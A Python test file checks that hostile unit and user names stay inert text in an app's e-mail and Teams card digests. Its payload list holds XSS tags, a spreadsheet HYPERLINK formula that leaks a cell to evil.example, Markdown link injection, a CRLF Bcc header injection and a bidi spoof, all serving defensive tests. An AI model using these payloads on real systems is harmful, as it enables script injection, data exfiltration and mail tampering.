"""Hostile names in a digest (issue 20): a unit's, a source's or the recipient's name comes from a source
system; in the e-mail's plain-text and HTML parts and in the Teams card it must stay text — no tag, no
link, image, emphasis, list or autolink may form, and the only addresses are the app's own. The e-mail is
sent through a real SMTP server and parsed back as received."""

from __future__ import annotations

import dataclasses
import email
import email.policy
import html
import re
from html.parser import HTMLParser

import pytest

from tests.helpers import smtp_server
from tests.security.conftest import HOSTILE_DISTRICT, HOSTILE_GROUP, HOSTILE_STAFF, HOSTILE_UNIT
from tests.unit.test_delivery import APP, message, settings
from tilannekuva.delivery import WORD_JOINER, card_text, render_card, send
from tilannekuva.whatsnew import Change

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "[x](https://evil.example)",
    '=HYPERLINK("https://evil.example/?d="&A1,"Koulu")',
    "**lihava** _kursiivi_ ~~yli~~ `koodi`",
    "- lista\n1. kohta\n# otsikko",
    "1) Koulu",
    "> lainaus",
    "![i](https://evil.example/p.png)",
    "<https://evil.example> www.evil.example pahis@evil.example",
    "{{DATE(2017-02-14T06:00:00Z, SHORT)}}",
    "Koulu \u202eelpmaxe.live\u202c",
    "</li></ul><a href='https://evil.example'>x</a><script>alert(1)</script>",
    "Koulu\r\nBcc: kaikki@kaupunki.example",
    HOSTILE_UNIT,
    HOSTILE_GROUP,
    HOSTILE_STAFF,
    HOSTILE_DISTRICT,
]
ALLOWED_TAGS = {"html", "head", "meta", "title", "body", "p", "h2", "ul", "li", "a", "hr"}


def hostile_message(name: str, lang: str = "fi"):
    changes = (
        Change("signals", "new", "unit:12", name, 3, link="principal_support?yksikko=12&lukuvuosi=2026"),
        Change("loads", "loaded", subject=name, after="2026-11-23", link=""),
    )
    return dataclasses.replace(message(lang, changes=changes), display_name=name)


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def visible(text: str) -> str:
    """What a reader sees: escapes read, word joiners invisible."""
    return re.sub(r"\\(.)", r"\1", text).replace(WORD_JOINER, "")


def shown(name: str) -> str:
    """The name as a digest may show it: one line, without bidi controls."""
    return re.sub(r"[\u202a-\u202e\u2066-\u2069]", "", re.sub(r"[\r\n]+", " ", name))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_inert_in_both_parts_of_the_email(name):
    with smtp_server() as (host, port, received):
        send("email", hostile_message(name), "rauha@kaupunki.example", settings(smtp_port=port))
    assert len(received) == 1 and received[0]["rcpt_tos"] == ["rauha@kaupunki.example"]
    mail = email.message_from_bytes(received[0]["data"], policy=email.policy.default)
    assert "kaikki@kaupunki.example" not in str(mail["Bcc"] or "") and mail["Bcc"] is None
    plain = mail.get_body(("plain",)).get_content()
    html_part = mail.get_body(("html",)).get_content()
    # plain text: the name is there as written, but no address a client would link leads anywhere else
    assert shown(name) in plain.replace(WORD_JOINER, "")
    assert all(u.startswith(APP + "/") for u in re.findall(r"(?i)[a-z][a-z0-9+.-]*://\S*", plain))
    assert not re.search(r"(?i)www\.", plain)
    # HTML: only our tags, links only into the app, no image, no script, no event handler
    parser = Tags()
    parser.feed(html_part)
    assert {tag for tag, _ in parser.tags} <= ALLOWED_TAGS
    for tag, attrs in parser.tags:
        assert set(attrs) <= {"href", "style", "lang", "charset"}, (tag, attrs)
        if "href" in attrs:
            assert tag == "a" and attrs["href"].startswith(APP + "/")
    assert not re.search(r"(?i)[a-z][a-z0-9+.-]*://(?!tilannekuva\.kaupunki\.example/)", html_part)
    assert shown(name) in html.unescape(html_part).replace(WORD_JOINER, "")  # shown as written


def _texts(node):
    if isinstance(node, dict):
        if node.get("type") == "TextBlock":
            yield node["text"]
        for value in node.values():
            yield from _texts(value)
    elif isinstance(node, list):
        for value in node:
            yield from _texts(value)


def _urls(node):
    if isinstance(node, dict):
        if node.get("type") == "Action.OpenUrl":
            yield node["url"]
        for value in node.values():
            yield from _urls(value)
    elif isinstance(node, list):
        for value in node:
            yield from _urls(value)


def assert_inert_card_text(text: str) -> None:
    """No Markdown of the Adaptive Card subset can form from `text`, whether a client reads backslash
    escapes or shows them (Teams' clients differ): every marker character escaped, and a link, autolink,
    list or DATE() function broken by a word joiner anyway."""
    unescaped = re.sub(r"\\\\", "", text)
    assert not re.search(r"(?<!\\)[\[\]*_`~<>]", unescaped), text
    assert "](" not in text and "](" not in text.replace("\\", "")
    assert not re.search(r"(?i)[a-z]://|www\.|@[a-z0-9]|\{\{|<[a-z]", text.replace("\\", "")), text
    assert not re.match(r"^\s*([-+*#>=|]|\d+[.)])", text.replace("\\", "")), text


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_a_hostile_name_is_inert_in_the_teams_card(name, lang):
    body = render_card(hostile_message(name, lang), settings())
    texts = list(_texts(body))
    assert any(shown(name) in visible(text) for text in texts)  # still readable as written
    for text in texts:
        assert_inert_card_text(text)
    assert all(u.startswith(APP + "/") for u in _urls(body))


@pytest.mark.parametrize("name", HOSTILE)
def test_card_text_reads_as_written(name):
    assert visible(card_text(name)) == shown(name)
    assert_inert_card_text(card_text(name))
